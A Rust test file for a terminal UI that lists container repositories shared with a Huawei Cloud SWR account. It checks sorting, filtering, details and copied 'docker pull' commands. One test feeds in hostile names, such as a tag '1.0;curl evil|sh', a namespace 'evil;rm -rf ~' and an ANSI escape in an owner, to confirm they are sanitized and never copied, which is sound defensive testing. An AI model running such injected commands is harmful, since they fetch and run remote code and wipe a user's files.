//! Repositories other accounts share with this one (`:shared`): listing, sorting, filtering,
//! details, and the pull commands `y` and `Y` copy — checked names only, none for an expired
//! share.

mod support;

use support::*;
use swr_tui::app::detail::{self, Detail};
use swr_tui::app::keys;
use swr_tui::app::registry::Edition;
use swr_tui::app::rows::ColumnId;
use swr_tui::app::shared_pull;

pub fn shared(ns: &str, name: &str, owner: &str, valid: bool, tags: &[&str]) -> RepoV2 {
    RepoV2 {
        namespace: ns.into(),
        name: name.into(),
        domain_name: owner.into(),
        status: valid,
        num_images: tags.len() as i64,
        tags: tags.iter().map(|t| t.to_string()).collect(),
        description: format!("from {owner}"),
        category: "linux".into(),
        ..RepoV2::default()
    }
}

fn shared_list() -> Vec<RepoV2> {
    vec![
        shared("vendor", "agent", "vendor-inc", false, &["2.0"]),
        shared(
            "partner-tools",
            "builder",
            "partner-co",
            true,
            &["1.4.0", "latest"],
        ),
        shared(
            "partner-tools",
            "base-10",
            "partner-co",
            true,
            &["v1", "v2", "v3"],
        ),
        shared("partner-tools", "base-2", "acme", true, &[]),
    ]
}

/// The organizations, then `:shared`, answered with `list`.
fn with_shared(list: Vec<RepoV2>) -> Model {
    let mut m = with_orgs();
    press(&mut m, ":shared");
    let cmds = update(&mut m, key(KeyCode::Enter));
    let id = fetch_id(&cmds, &Fetch::SharedWithMe);
    loaded(&mut m, id, Fetched::SharedWithMe(list));
    m
}

fn names(m: &Model) -> Vec<String> {
    m.panes
        .shared_with_me
        .visible()
        .map(|r| r.repository.clone())
        .collect()
}

fn cursor_to(m: &mut Model, repository: &str) {
    press(m, "g");
    while m.panes.shared_with_me.current().unwrap().repository != repository {
        let before = m.panes.shared_with_me.cursor();
        press(m, "j");
        assert_ne!(
            m.panes.shared_with_me.cursor(),
            before,
            "{repository} not listed"
        );
    }
}

fn copied(cmds: &[Cmd]) -> Vec<String> {
    cmds.iter()
        .filter_map(|c| match c {
            Cmd::Copy { text } => Some(text.clone()),
            _ => None,
        })
        .collect()
}

#[test]
fn shared_lists_every_share_in_natural_order_expired_ones_marked() {
    let m = with_shared(shared_list());
    assert_eq!(m.nav.focus(), PaneId::SharedWithMe);
    assert_eq!(m.panes.shared_with_me.load, Load::Loaded);
    assert_eq!(
        names(&m),
        [
            "partner-tools/base-2",
            "partner-tools/base-10",
            "partner-tools/builder",
            "vendor/agent"
        ]
    );
    let states: Vec<_> = m
        .panes
        .shared_with_me
        .visible()
        .map(|r| (r.owner.as_str(), r.state(), r.tag_count))
        .collect();
    assert_eq!(
        states,
        [
            ("acme", "valid", 0),
            ("partner-co", "valid", 3),
            ("partner-co", "valid", 2),
            ("vendor-inc", "expired", 1)
        ]
    );
}

#[test]
fn shared_sorts_by_owner_state_and_tags_and_filters_by_owner() {
    let mut m = with_shared(shared_list());
    press(&mut m, "s");
    assert_eq!(m.panes.shared_with_me.sort().column, ColumnId::Owner);
    assert_eq!(names(&m)[0], "partner-tools/base-2", "acme first");
    press(&mut m, "s");
    assert_eq!(m.panes.shared_with_me.sort().column, ColumnId::State);
    assert_eq!(names(&m)[0], "vendor/agent", "expired before valid");
    press(&mut m, "s");
    assert_eq!(m.panes.shared_with_me.sort().column, ColumnId::Tags);
    press(&mut m, "S");
    assert_eq!(names(&m)[0], "partner-tools/base-10", "most tags first");
    press(&mut m, "/vendor-inc");
    update(&mut m, key(KeyCode::Enter));
    assert_eq!(names(&m), ["vendor/agent"], "the owner is searched too");
}

#[test]
fn y_copies_the_latest_tags_pull_command_else_the_first() {
    let mut m = with_shared(shared_list());
    cursor_to(&mut m, "partner-tools/builder");
    assert_eq!(
        copied(&press(&mut m, "y")),
        ["docker pull swr.cn-north-4.myhuaweicloud.com/partner-tools/builder:latest"]
    );
    cursor_to(&mut m, "partner-tools/base-10");
    assert_eq!(
        copied(&press(&mut m, "y")),
        ["docker pull swr.cn-north-4.myhuaweicloud.com/partner-tools/base-10:v1"]
    );
}

#[test]
fn an_expired_share_offers_no_pull_command() {
    let mut m = with_shared(shared_list());
    cursor_to(&mut m, "vendor/agent");
    assert!(copied(&press(&mut m, "y")).is_empty());
    assert_eq!(status_kind(&m), Some(StatusKind::Error));
    assert!(status_text(&m).contains("expired"), "{}", status_text(&m));
    assert!(status_text(&m).contains("vendor-inc"));
    press(&mut m, "Y");
    assert_eq!(m.overlay, None, "no menu of commands that would be refused");
    assert!(status_text(&m).contains("Nothing to copy"));
    let (_, lines) = detail::of_focus(&m);
    let lines = lines.unwrap();
    assert!(lines.contains(&Detail::Field("State", "expired".into())));
    assert!(
        lines
            .iter()
            .all(|l| !matches!(l, Detail::Text(t) if t.contains("docker pull")))
    );
}

#[test]
fn a_repository_without_tags_has_nothing_to_copy() {
    let mut m = with_shared(shared_list());
    cursor_to(&mut m, "partner-tools/base-2");
    assert!(copied(&press(&mut m, "y")).is_empty());
    assert!(status_text(&m).contains("no tag"), "{}", status_text(&m));
}

#[test]
fn the_menu_has_one_entry_per_tag_and_copies_the_chosen_one() {
    let mut m = with_shared(shared_list());
    cursor_to(&mut m, "partner-tools/base-10");
    press(&mut m, "Y");
    assert_eq!(m.overlay, Some(Overlay::PullMenu { cursor: 0 }));
    let entries = shared_pull::menu_entries(&m);
    let tags: Vec<_> = entries.iter().map(|(t, _)| t.as_str()).collect();
    assert_eq!(tags, ["v1", "v2", "v3"]);
    press(&mut m, "jj");
    assert_eq!(m.overlay, Some(Overlay::PullMenu { cursor: 2 }));
    press(&mut m, "j");
    assert_eq!(
        m.overlay,
        Some(Overlay::PullMenu { cursor: 2 }),
        "stops at the last"
    );
    let cmds = update(&mut m, key(KeyCode::Enter));
    assert_eq!(
        copied(&cmds),
        ["docker pull swr.cn-north-4.myhuaweicloud.com/partner-tools/base-10:v3"]
    );
    assert_eq!(m.overlay, None);
    // A digit copies that entry; one past the entries does nothing.
    press(&mut m, "Y");
    assert!(copied(&press(&mut m, "4")).is_empty());
    assert!(m.overlay.is_some());
    assert_eq!(
        copied(&press(&mut m, "2")),
        ["docker pull swr.cn-north-4.myhuaweicloud.com/partner-tools/base-10:v2"]
    );
    press(&mut m, "Y");
    update(&mut m, key(KeyCode::Esc));
    assert_eq!(m.overlay, None);
}

#[test]
fn the_menu_is_capped_and_the_row_keeps_a_bounded_number_of_tags() {
    let many: Vec<String> = (0..100_000).map(|i| format!("build-{i}")).collect();
    let mut big = shared("partner-tools", "huge", "partner-co", true, &[]);
    big.tags = many;
    big.tags.push("latest".into());
    let mut m = with_shared(vec![big]);
    let row = m.panes.shared_with_me.current().unwrap();
    assert_eq!(row.tag_count, 100_001);
    assert_eq!(row.tags.len(), swr_tui::app::resources::KEPT_TAGS);
    assert_eq!(
        row.default_tag(),
        Some("latest"),
        "found past the kept ones"
    );
    press(&mut m, "Y");
    assert_eq!(shared_pull::menu_entries(&m).len(), shared_pull::MENU_TAGS);
    let (_, lines) = detail::of_focus(&m);
    let lines = lines.unwrap();
    assert!(lines.contains(&Detail::Empty("  … and 99981 more tags".into())));
}

#[test]
fn hostile_names_are_sanitized_when_drawn_and_never_copied() {
    let list = vec![
        shared("evil;rm -rf ~", "web", "x\u{1b}[2Jowner", true, &["1.0"]),
        shared("good", "web", "ok", true, &["1.0;curl evil|sh", "1.1"]),
    ];
    let mut m = with_shared(list);
    cursor_to(&mut m, "good/web");
    assert!(
        copied(&press(&mut m, "y")).is_empty(),
        "a tag with a ; is refused"
    );
    assert!(status_text(&m).contains("must not contain"));
    press(&mut m, "Y");
    let entries = shared_pull::menu_entries(&m);
    assert!(entries[0].1.is_err());
    assert_eq!(
        entries[1].1.as_deref(),
        Ok("docker pull swr.cn-north-4.myhuaweicloud.com/good/web:1.1")
    );
    press(&mut m, "1");
    assert!(status_text(&m).contains("Not copied"));
    assert_eq!(
        copied(&press(&mut m, "Y2")),
        ["docker pull swr.cn-north-4.myhuaweicloud.com/good/web:1.1"]
    );

    cursor_to(&mut m, "evil;rm -rf ~/web");
    let row = m.panes.shared_with_me.current().unwrap();
    assert!(!row.owner.contains('\u{1b}'), "{:?}", row.owner);
    assert!(copied(&press(&mut m, "y")).is_empty());
    assert!(status_text(&m).contains("organization name"));
    let (_, lines) = detail::of_focus(&m);
    assert!(
        lines
            .unwrap()
            .iter()
            .all(|l| !matches!(l, Detail::Text(t) if t.contains("docker pull")))
    );
}

#[test]
fn details_list_the_pull_commands_of_the_kept_tags() {
    let mut m = with_shared(shared_list());
    cursor_to(&mut m, "partner-tools/builder");
    let (title, lines) = detail::of_focus(&m);
    assert_eq!(title, "Shared repository details");
    let lines = lines.unwrap();
    assert!(lines.contains(&Detail::Field("Owner", "partner-co".into())));
    assert!(lines.contains(&Detail::Field("State", "valid".into())));
    let commands: Vec<_> = lines
        .iter()
        .filter_map(|l| match l {
            Detail::Text(t) if t.starts_with("docker pull") => Some(t.as_str()),
            _ => None,
        })
        .collect();
    assert_eq!(
        commands,
        [
            "docker pull swr.cn-north-4.myhuaweicloud.com/partner-tools/builder:latest",
            "docker pull swr.cn-north-4.myhuaweicloud.com/partner-tools/builder:1.4.0",
        ]
    );
}

#[test]
fn shared_reloads_on_r_and_on_each_visit_and_esc_goes_back() {
    let mut m = with_shared(shared_list());
    let cmds = press(&mut m, "r");
    let id = fetch_id(&cmds, &Fetch::SharedWithMe);
    // A stale answer does not land.
    update(
        &mut m,
        Msg::Fetched {
            request: id + 100,
            result: Ok(Fetched::SharedWithMe(vec![])),
        },
    );
    assert_eq!(names(&m).len(), 4);
    loaded(
        &mut m,
        id,
        Fetched::SharedWithMe(vec![shared("a", "b", "c", true, &["1"])]),
    );
    assert_eq!(names(&m), ["a/b"]);
    update(&mut m, key(KeyCode::Esc));
    assert_eq!(m.nav.focus(), PaneId::Orgs, "back where :shared was typed");
    press(&mut m, ":shared");
    let cmds = update(&mut m, key(KeyCode::Enter));
    fetch_id(&cmds, &Fetch::SharedWithMe);
}

#[test]
fn a_failed_load_says_why_and_keeps_the_pane() {
    let mut m = with_orgs();
    press(&mut m, ":shared");
    let cmds = update(&mut m, key(KeyCode::Enter));
    let id = fetch_id(&cmds, &Fetch::SharedWithMe);
    answer(
        &mut m,
        id,
        Err(ErrorInfo {
            status: Some(403),
            code: Some("SVCSTG.SWR.4030001".into()),
            message: "no permission".into(),
        }),
    );
    assert_eq!(m.nav.focus(), PaneId::SharedWithMe);
    assert_eq!(status_kind(&m), Some(StatusKind::Error));
    assert!(status_text(&m).contains("no permission"));
}

#[test]
fn shared_is_a_shared_edition_view_with_copy_keys_in_help() {
    assert_eq!(
        PaneId::by_command("shared", Edition::Shared),
        Some(PaneId::SharedWithMe)
    );
    assert_eq!(PaneId::by_command("shared", Edition::Enterprise), None);
    let help = keys::help(PaneId::SharedWithMe, Edition::Shared, false);
    let labels: Vec<_> = help.iter().map(|(k, _)| k.as_str()).collect();
    for wanted in ["y", "Y", "v", "r", ":"] {
        assert!(labels.contains(&wanted), "{wanted} missing from {labels:?}");
    }
    for absent in ["d", "c", "e", "Space"] {
        assert!(!labels.contains(&absent), "{absent} in {labels:?}");
    }
}
